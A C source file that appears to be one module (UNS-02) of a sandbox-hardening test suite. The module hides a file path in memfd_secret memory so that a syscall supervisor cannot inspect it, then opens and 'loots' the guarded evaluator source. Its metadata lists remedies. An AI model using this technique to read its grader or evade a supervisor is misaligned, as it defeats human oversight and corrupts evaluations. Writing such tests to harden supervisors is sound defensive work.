// SPDX-License-Identifier: MIT
/*
 * Goal:  the evaluator's source, past a supervisor that lets through what it cannot read.
 * Means: the path stands in memory from memfd_secret(2), which only its own process can read. The
 *        kernel, acting for the process, reads it there; the supervisor gets EIO from /proc/PID/mem
 *        and EFAULT from process_vm_readv(2). No race, one call.
 */
#include "attacks/supervisor-evasion/evaluator.h"

#include <fcntl.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#define PAGE 4096

static enum claim run(const struct brief *b)
{
	int secret = (int)syscall(SYS_memfd_secret, O_CLOEXEC);
	char *path = MAP_FAILED;

	if (secret >= 0 && !ftruncate(secret, PAGE))
		path = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, secret, 0);
	attempting(b);
	if (path == MAP_FAILED)
		return denied("memfd_secret");
	memcpy(path, EVALUATOR, sizeof(EVALUATOR));
	return loot_evaluator(open(path, O_RDONLY | O_CLOEXEC)) ? CLAIM_DONE : denied("open");
}

const struct attack attack = {
	.effect = "a file that the supervisor guards is read",
	.means = "the path stands in memfd_secret(2) memory, which no other process can read",
	.oracle = "secret:task",
	.needs = NEED_SECRETMEM,
	.id = "UNS-02",
	.attack_id = "T1562.001, CWE-636",
	.remedy = "refuse what cannot be read; RLIMIT_MEMLOCK 0; Landlock below",
	.refs = (const char *const[]){ "memfd_secret(2), since Linux 5.14", NULL },
	.run = run,
};
